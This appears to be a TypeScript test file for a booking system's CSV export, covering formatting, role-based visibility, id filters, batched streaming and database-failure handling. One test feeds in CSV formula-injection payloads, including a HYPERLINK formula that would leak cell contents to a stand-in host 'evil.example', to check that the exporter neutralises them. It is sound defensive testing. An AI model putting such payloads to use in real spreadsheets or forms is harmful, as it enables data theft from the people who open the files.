// The bookings list as CSV (B10): a BOM and a header, values a tour operator can read back
// (diacritics intact, totals as decimals in the currency's minor digits), costs for staff
// only, the list's filters and visibility, `ids=` exports exactly those, streamed in batches,
// and a database failure mid-stream ends that response without taking the server down.
import { parse } from 'csv-parse/sync';
import type { FastifyInstance } from 'fastify';
import type { KyselyPlugin, PluginTransformResultArgs, QueryResult, UnknownRow } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  type BookingFixture,
  bookThroughApi,
  insertBookings,
  insertOffer,
  makeBookableTour,
} from '../../../../tests/helpers/booking-factories.ts';
import { makePerson } from '../../../../tests/helpers/customer-factories.ts';
import { describeEachDatabase } from '../../../../tests/helpers/database.ts';
import {
  makeAgency,
  makeTestApp,
  signIn,
  type TestAgency,
  uniqueSuffix,
  userByEmail,
} from '../../../../tests/helpers/factories.ts';
import { todayUtc } from '../../calendar.ts';
import { newId } from '../../db/ids.ts';
import { decimalAmount, exportBatchSize, exportBookingsCsv } from './export-bookings.ts';

const staffHeader = [
  'Number',
  'Status',
  'Channel',
  'Online',
  'Created at',
  'Departure',
  'Return',
  'Product',
  'Destination',
  'Offer code',
  'Variant',
  'Customer',
  'Customer e-mail',
  'Customer phone',
  'Lead traveller',
  'Adults',
  'Children',
  'Travellers',
  'Currency',
  'Total',
  'Open required actions',
  'Approval',
  'PNR',
  'Cost',
  'Margin',
];

type CsvRow = Record<string, string>;

/** Fails the `failOn`-th batch the export reads (rows carrying all traveller names). */
class FailingExportBatch implements KyselyPlugin {
  batches = 0;
  constructor(readonly failOn: number) {}
  transformQuery(args: Parameters<KyselyPlugin['transformQuery']>[0]) {
    return args.node;
  }
  async transformResult(args: PluginTransformResultArgs): Promise<QueryResult<UnknownRow>> {
    const first = args.result.rows[0];
    if (first && 'travellerNames' in first) {
      this.batches += 1;
      if (this.batches === this.failOn) throw new Error('the database connection was lost');
    }
    return args.result;
  }
}

describe('decimalAmount', () => {
  it("writes minor units as a decimal with the currency's digits", () => {
    expect(decimalAmount(175_000, 'EUR')).toBe('1750.00');
    expect(decimalAmount(5, 'CZK')).toBe('0.05');
    expect(decimalAmount(12_345, 'JPY')).toBe('12345');
    expect(decimalAmount(1_234_567, 'BHD')).toBe('1234.567');
    expect(decimalAmount(null, 'EUR')).toBe('');
  });
});

describeEachDatabase('bookings export', (database) => {
  let app: FastifyInstance;
  let agency: TestAgency;
  const cookies = { agent: '', customer: '', partner: '' };
  let offerCode = '';
  let jana: { id: string; email: string | null };
  let family: { id: string; number: string };
  let portal: { id: string; number: string };
  let czk = '';
  let jpy = '';

  const exportCsv = async (query: string, who: keyof typeof cookies = 'agent') => {
    const response = await app.inject({
      method: 'GET',
      url: `/api/v1/bookings/export.csv${query ? `?${query}` : ''}`,
      headers: { cookie: cookies[who] },
    });
    expect(response.statusCode, response.body).toBe(200);
    return response;
  };
  const rowsOf = (body: string): CsvRow[] => parse(body, { bom: true, columns: true });
  const numbersOf = async (query: string, who: keyof typeof cookies = 'agent') =>
    rowsOf((await exportCsv(query, who)).body).map((row) => row.Number);

  beforeAll(async () => {
    app = await makeTestApp(database());
    const s = uniqueSuffix();
    const emails = {
      agent: `agent-${s}@export.test`,
      customer: `customer-${s}@export.test`,
      partner: `partner-${s}@export.test`,
    };
    agency = await makeAgency(database(), {
      users: [
        { role: 'agent', email: emails.agent },
        { role: 'customer', email: emails.customer },
        { role: 'partner', email: emails.partner },
      ],
    });
    for (const who of Object.keys(emails) as Array<keyof typeof emails>) {
      cookies[who] = (await signIn(app, emails[who])).cookie;
    }
    const partnerUserId = (await userByEmail(database(), agency.agencyId, emails.partner)).id;
    const tour = await makeBookableTour(agency);
    // Jana is the customer user's own record: a customer books only for themselves.
    jana = await makePerson(agency, {
      firstName: 'Jana',
      lastName: 'Nováková',
      email: emails.customer,
    });
    offerCode = `SLEVO-${s}`;
    const offerId = await insertOffer(database(), agency, {
      code: offerCode,
      partnerUserId,
      variants: ['2N'],
    });

    family = await bookThroughApi(app, cookies.agent, {
      ...tour,
      customerId: jana.id,
      travellers: [
        { firstName: 'Jana', lastName: 'Nováková', birthDate: '1985-03-12' },
        { firstName: 'Petr', lastName: 'Novák', birthDate: '1984-01-30' },
        { firstName: 'Eliška', lastName: 'Nováková', birthDate: '2023-09-01' },
      ],
      more: { pnr: 'GDS9ZX' },
    });
    portal = await bookThroughApi(app, cookies.customer, {
      ...tour,
      channel: 'web',
      customerId: jana.id,
      travellers: [
        { firstName: 'Tomáš', lastName: 'Dvořák', birthDate: '1985-03-12' },
        { firstName: 'Lucie', lastName: 'Dvořáková', birthDate: '1984-01-30' },
        { firstName: 'Adam', lastName: 'Dvořák', birthDate: '2023-09-01' },
      ],
    });
    [czk, jpy] = (await insertBookings(database(), agency, [
      {
        number: '2029-900001',
        customerId: jana.id,
        productId: tour.tourId,
        status: 'confirmed',
        channel: 'marketplace',
        currency: 'CZK',
        total: 1_234_567,
        cost: 1_000_000,
        party: { adults: 2, childAges: [4, 9] },
        openActions: 1,
        approval: 'pending',
        offerId,
        variantId: '2N',
        createdAt: '2029-03-01T10:00:00.000000Z',
        travellers: [
          { firstName: 'Łukasz', lastName: 'Wiśniewski' },
          { firstName: 'Ayşe', lastName: 'Yılmaz' },
        ],
      },
      {
        number: '2029-900002',
        customerId: jana.id,
        productId: tour.tourId,
        status: 'paid',
        channel: 'gds',
        currency: 'JPY',
        total: 12_345,
        cost: null,
        pnr: 'ABC123',
        createdAt: '2029-03-02T10:00:00.000000Z',
      },
    ] satisfies BookingFixture[])) as [string, string];
  });
  afterAll(() => app.close());

  it('streams a UTF-8 CSV with a BOM, a header and one row per booking, newest first', async () => {
    const response = await exportCsv('');
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(
      `attachment; filename="bookings-${todayUtc()}.csv"`,
    );
    expect(response.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(response.body.startsWith('\ufeffNumber,Status,Channel,Online,')).toBe(true);
    const header = parse(response.body, { bom: true, toLine: 1 })[0];
    expect(header).toEqual(staffHeader);
    const rows = rowsOf(response.body);
    expect(rows.map((row) => row.Number)).toEqual([
      '2029-900002',
      '2029-900001',
      portal.number,
      family.number,
    ]);

    const stored = await database()
      .db.selectFrom('bookings')
      .select(['cost', 'createdAt'])
      .where('id', '=', family.id)
      .executeTakeFirstOrThrow();
    const cost = Number(stored.cost);
    expect(rows[3]).toEqual({
      Number: family.number,
      Status: 'internal_reservation',
      Channel: 'phone',
      Online: 'no',
      'Created at': new Date(stored.createdAt).toISOString(),
      Departure: '2030-07-06',
      Return: '2030-07-13',
      Product: 'Crete for a week',
      Destination: 'Hersonissos, GR',
      'Offer code': '',
      Variant: '',
      Customer: 'Jana Nováková',
      'Customer e-mail': jana.email,
      // A leading + starts a formula in a spreadsheet: the cell is quoted as text.
      'Customer phone': "'+420 602 123 456",
      'Lead traveller': 'Jana Nováková',
      Adults: '2',
      Children: '1',
      Travellers: 'Jana Nováková; Petr Novák; Eliška Nováková',
      Currency: 'EUR',
      // 2 adults × 7 nights × 100,00 + the child's 7 × 50,00 = 1 750,00.
      Total: '1750.00',
      'Open required actions': '0',
      Approval: 'none',
      PNR: 'GDS9ZX',
      Cost: decimalAmount(cost, 'EUR'),
      Margin: decimalAmount(1750_00 - cost, 'EUR'),
    });
    expect(rows[1]).toMatchObject({
      Online: 'yes',
      'Created at': '2029-03-01T10:00:00.000Z',
      'Offer code': offerCode,
      Variant: '2N',
      Adults: '2',
      Children: '2',
      Travellers: 'Łukasz Wiśniewski; Ayşe Yılmaz',
      'Lead traveller': 'Łukasz Wiśniewski',
      Currency: 'CZK',
      Total: '12345.67',
      Cost: '10000.00',
      Margin: '2345.67',
      'Open required actions': '1',
      Approval: 'pending',
    });
    expect(rows[0]).toMatchObject({
      Currency: 'JPY',
      Total: '12345',
      Cost: '',
      Margin: '',
      PNR: 'ABC123',
      Travellers: '',
      'Lead traveller': '',
    });
  });

  it("gives a partner its own offers' bookings, without cost and margin", async () => {
    const response = await exportCsv('', 'partner');
    const header = parse(response.body, { bom: true, toLine: 1 })[0];
    expect(header).toEqual(staffHeader.filter((h) => h !== 'Cost' && h !== 'Margin'));
    const rows = rowsOf(response.body);
    expect(rows.map((row) => row.Number)).toEqual(['2029-900001']);
    expect(rows[0]).not.toHaveProperty('Cost');
    expect(rows[0]).toMatchObject({ Total: '12345.67' });
  });

  it('gives a customer only the bookings they made', async () => {
    expect(await numbersOf('', 'customer')).toEqual([portal.number]);
    // Naming others' bookings does not reveal them.
    expect(await numbersOf(`ids=${family.id},${portal.id}`, 'customer')).toEqual([portal.number]);
  });

  it('exports exactly the bookings named by ids, in a stable order', async () => {
    expect(await numbersOf(`ids=${family.id},${jpy}`)).toEqual(['2029-900002', family.number]);
    expect(await numbersOf(`ids=${jpy},${family.id}`)).toEqual(['2029-900002', family.number]);
    expect(await numbersOf(`ids=${czk},${family.id.toUpperCase()},${czk}&sort=number`)).toEqual(
      [family.number, '2029-900001'].sort(),
    );
    // An id of nothing (or of another agency) exports nothing.
    expect(await numbersOf(`ids=${newId()}`)).toEqual([]);
    const empty = await exportCsv(`ids=${newId()}`);
    expect(empty.body).toBe(`\ufeff${staffHeader.join(',')}\n`);
    // ids within the filters: both must hold.
    expect(await numbersOf(`ids=${czk},${jpy}&status=paid`)).toEqual(['2029-900002']);
  });

  it("honours the list's filters and sort orders", async () => {
    expect(await numbersOf('status=confirmed,paid')).toEqual(['2029-900002', '2029-900001']);
    expect(await numbersOf('online=false')).toEqual([family.number]);
    expect(await numbersOf('q=novakova&sort=number')).toEqual(
      [family.number, portal.number, '2029-900001', '2029-900002'].sort(),
    );
    expect(await numbersOf('q=wisniewski')).toEqual(['2029-900001']);
    expect(await numbersOf('q=gds9zx')).toEqual([family.number]);
    expect(await numbersOf('approval=pending')).toEqual(['2029-900001']);
    expect(await numbersOf('actionDone=false')).toEqual(['2029-900001']);
    // 12 345,67 CZK; the two bookings of 1 750,00 EUR (equal: the later id first); 12 345 JPY.
    expect(await numbersOf('sort=-total')).toEqual([
      '2029-900001',
      portal.number,
      family.number,
      '2029-900002',
    ]);
  });

  it('takes a large selection of ids in a POST body, the same export as the URL gives', async () => {
    // 2 000 ids do not fit in a request line; with ours among unknown ones, ours come out.
    const ids = [...Array.from({ length: 1998 }, () => newId()), jpy, family.id];
    const response = await app.inject({
      method: 'POST',
      url: '/api/v1/bookings/export.csv',
      headers: { cookie: cookies.agent },
      payload: { ids: ids.join(',') },
    });
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(rowsOf(response.body).map((row) => row.Number)).toEqual(
      await numbersOf(`ids=${family.id},${jpy}`),
    );
    const bad = await app.inject({
      method: 'POST',
      url: '/api/v1/bookings/export.csv',
      headers: { cookie: cookies.agent },
      payload: { ids: 'not-an-id' },
    });
    expect(bad.statusCode).toBe(400);
    expect(bad.json().errors[0].path).toBe('/ids');
  });

  it('answers bad filters and ids with 400 problem+json naming the field, before any CSV', async () => {
    for (const [query, path] of [
      ['ids=not-a-uuid', '/ids'],
      [`ids=${family.id},42`, '/ids'],
      ['status=lost', '/status'],
      ['sort=price', '/sort'],
      ['cursor=abc', '/cursor'],
      ['limit=5', '/limit'],
    ] as const) {
      const response = await app.inject({
        method: 'GET',
        url: `/api/v1/bookings/export.csv?${query}`,
        headers: { cookie: cookies.agent },
      });
      expect(response.statusCode, query).toBe(400);
      expect(response.headers['content-type']).toContain('application/problem+json');
      expect(response.json().errors.map((e: { path: string }) => e.path)).toContain(path);
    }
    const tooMany = Array.from({ length: 10_001 }, () => newId()).join(',');
    const response = await app.inject({
      method: 'GET',
      url: `/api/v1/bookings/export.csv?ids=${tooMany}`,
      headers: { cookie: cookies.agent },
    });
    expect(response.statusCode).toBe(400);
    expect(response.json().errors[0].path).toBe('/ids');
  });

  it('is not mistaken for a booking id', async () => {
    const response = await app.inject({
      method: 'GET',
      url: `/api/v1/bookings/${family.id}`,
      headers: { cookie: cookies.agent },
    });
    expect(response.statusCode).toBe(200);
    expect(response.json().number).toBe(family.number);
  });

  it('writes a portal visitor named like a formula as text a spreadsheet will not run', async () => {
    const shop = await makeAgency(database());
    const staff = (await signIn(app, shop.adminEmail)).cookie;
    const tour = await makeBookableTour(shop);
    const link = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
    const quoted = await app.inject({
      method: 'POST',
      url: `/api/v1/portal/${shop.slug}/quotes`,
      payload: {
        productId: tour.tourId,
        from: '2030-07-06',
        to: '2030-07-13',
        party: { adults: 2, childAges: [] },
      },
    });
    expect(quoted.statusCode, quoted.body).toBe(201);
    const booked = await app.inject({
      method: 'POST',
      url: `/api/v1/portal/${shop.slug}/bookings`,
      payload: {
        quoteId: quoted.json().id,
        contact: {
          firstName: link,
          lastName: '@SUM(1+1)',
          email: `formula-${uniqueSuffix()}@export.test`,
          phone: '+420 777 123 456',
        },
        travellers: [
          { firstName: link, lastName: '-2+3', birthDate: '1985-03-12' },
          { firstName: 'Jana', lastName: 'Nováková', birthDate: '1984-01-30' },
        ],
        acceptTerms: true,
        locale: 'en',
      },
    });
    expect(booked.statusCode, booked.body).toBe(201);

    const response = await app.inject({
      method: 'GET',
      url: '/api/v1/bookings/export.csv',
      headers: { cookie: staff },
    });
    expect(response.statusCode).toBe(200);
    const [row] = rowsOf(response.body);
    expect(row).toMatchObject({
      Customer: `'${link} @SUM(1+1)`,
      'Customer phone': "'+420 777 123 456",
      'Lead traveller': `'${link} -2+3`,
      Travellers: `'${link} -2+3; Jana Nováková`,
      // Numbers stay numbers.
      Total: '1400.00',
      Adults: '2',
    });
    // No cell of the file begins with a formula character.
    const cells = (parse(response.body, { bom: true }) as string[][]).flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });

  describe('many bookings', () => {
    let big: TestAgency;
    let bigCookie = '';
    const count = exportBatchSize + 5;

    beforeAll(async () => {
      big = await makeAgency(database());
      bigCookie = (await signIn(app, big.adminEmail)).cookie;
      const tour = await makeBookableTour(big);
      const customer = await makePerson(big);
      await insertBookings(
        database(),
        big,
        Array.from({ length: count }, (_, i) => ({
          number: `2029-${String(i).padStart(6, '0')}`,
          customerId: customer.id,
          productId: tour.tourId,
          total: 100 + (i % 7),
          // Many share an instant: the id orders them, across the batches too.
          createdAt: `2029-04-01T10:00:${String(i % 60).padStart(2, '0')}.000000Z`,
          travellers: [{ firstName: 'Anna', lastName: `Nováková ${i}` }],
        })),
        { refreshSearch: false, ledger: false },
      );
    });

    it('streams every row once, across batches, in order', async () => {
      const response = await app.inject({
        method: 'GET',
        url: '/api/v1/bookings/export.csv?sort=number',
        headers: { cookie: bigCookie },
      });
      expect(response.statusCode).toBe(200);
      const numbers = rowsOf(response.body).map((row) => row.Number);
      expect(numbers).toHaveLength(count);
      expect(numbers).toEqual(
        Array.from({ length: count }, (_, i) => `2029-${String(i).padStart(6, '0')}`),
      );
      const byCreation = rowsOf(
        (
          await app.inject({
            method: 'GET',
            url: '/api/v1/bookings/export.csv',
            headers: { cookie: bigCookie },
          })
        ).body,
      );
      expect(new Set(byCreation.map((row) => row.Number)).size).toBe(count);
    });

    it('reads in batches of the given size, each after the last', async () => {
      const csv = await exportBookingsCsv(
        { db: database().db, agencyId: big.agencyId, actor: { ...big.ctx.actor, role: 'admin' } },
        { sort: 'total' },
        { batchSize: 37 },
      );
      const chunks: Buffer[] = [];
      for await (const chunk of csv) chunks.push(Buffer.from(chunk));
      const rows = rowsOf(Buffer.concat(chunks).toString('utf8'));
      expect(rows).toHaveLength(count);
      expect(new Set(rows.map((row) => row.Number)).size).toBe(count);
      const totals = rows.map((row) => Number(row.Total));
      expect(totals).toEqual([...totals].sort((a, b) => a - b));
    });

    it('ends the response when the database fails mid-stream, and keeps serving', async () => {
      const failing = new FailingExportBatch(2);
      const flaky = await makeTestApp({ ...database(), db: database().db.withPlugin(failing) });
      try {
        const cookie = (await signIn(flaky, big.adminEmail)).cookie;
        // Headers and the first batch are gone already: the response is cut short (over HTTP
        // the chunked body never ends), so no one takes a partial file for a whole one.
        await expect(
          flaky.inject({ method: 'GET', url: '/api/v1/bookings/export.csv', headers: { cookie } }),
        ).rejects.toThrow(/destroyed before completion/);
        expect(failing.batches).toBe(2);
        const after = await flaky.inject({
          method: 'GET',
          url: '/api/v1/bookings?limit=1',
          headers: { cookie },
        });
        expect(after.statusCode).toBe(200);
        expect(after.json().items).toHaveLength(1);
      } finally {
        await flaky.close();
      }
    });

    it('answers 500 problem+json when the database fails before the first row', async () => {
      const failing = new FailingExportBatch(1);
      const flaky = await makeTestApp({ ...database(), db: database().db.withPlugin(failing) });
      try {
        const cookie = (await signIn(flaky, big.adminEmail)).cookie;
        const response = await flaky.inject({
          method: 'GET',
          url: '/api/v1/bookings/export.csv',
          headers: { cookie },
        });
        expect(response.statusCode).toBe(500);
        expect(response.headers['content-type']).toContain('application/problem+json');
      } finally {
        await flaky.close();
      }
    });
  });
});
